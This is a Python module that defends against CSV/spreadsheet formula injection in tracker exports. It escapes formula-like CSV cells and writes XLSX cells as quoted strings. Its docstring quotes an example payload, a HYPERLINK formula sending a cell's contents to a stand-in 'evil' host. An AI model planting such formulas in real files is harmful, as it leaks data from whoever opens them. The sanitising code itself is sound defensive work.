"""Text that a spreadsheet would run as a formula, made inert in every CSV and XLSX output.

A tracker cell typed as `=HYPERLINK("http://evil/?"&A1)` or `@SUM(1)` must not become a
live formula when a program manager opens `issues.csv` or `audit.xlsx` (OWASP "CSV
injection"). A value is formula-like when, after any leading spaces, it starts with
`=`, `+`, `-`, `@`, a tab, a carriage return or a line feed, or with the full-width
`＝`, `＋`, `－`, `＠` some spreadsheets also accept. In a CSV such a value is written
with a leading `'`; in an XLSX every text cell is written as a string (never a formula)
and marked "quote prefix", so editing it keeps it text.
"""

from __future__ import annotations

from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE, Cell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
"""What a formula-like value starts with (after leading spaces)."""
UNPRINTABLE = "\ufffd"
"""What a control character an XLSX cannot hold is written as."""


def is_formula_like(value: str) -> bool:
    """Whether a spreadsheet could read the value as a formula."""
    return value.lstrip(" ").startswith(FORMULA_STARTS)


def escape_formula(value: str) -> str:
    """Prefix a CSV cell that a spreadsheet would run as a formula with `'`."""
    return f"'{value}" if is_formula_like(value) else value


def is_plain_text(value: str) -> bool:
    """Whether openpyxl, given `value` as it is, writes it as text, unchanged, like `put_text`.

    It is not when it is formula-like (openpyxl makes `=...` a formula, and the cell
    needs its quote prefix), holds a control character an XLSX cannot hold, or is an
    error code such as `#N/A` (openpyxl writes it as an error).
    """
    return (
        not is_formula_like(value)
        and value not in ERROR_CODES
        and ILLEGAL_CHARACTERS_RE.search(value) is None
    )


def put_text(cell: Cell, value: str) -> None:
    """Write text into an XLSX cell as a string, never a formula, whatever it starts with.

    Control characters an XLSX file cannot hold (a tracker cell may) become `�`.
    """
    value = ILLEGAL_CHARACTERS_RE.sub(UNPRINTABLE, value)
    cell.value = value
    cell.data_type = "s"  # openpyxl makes any value starting with "=" a formula
    if is_formula_like(value):
        cell.quotePrefix = True
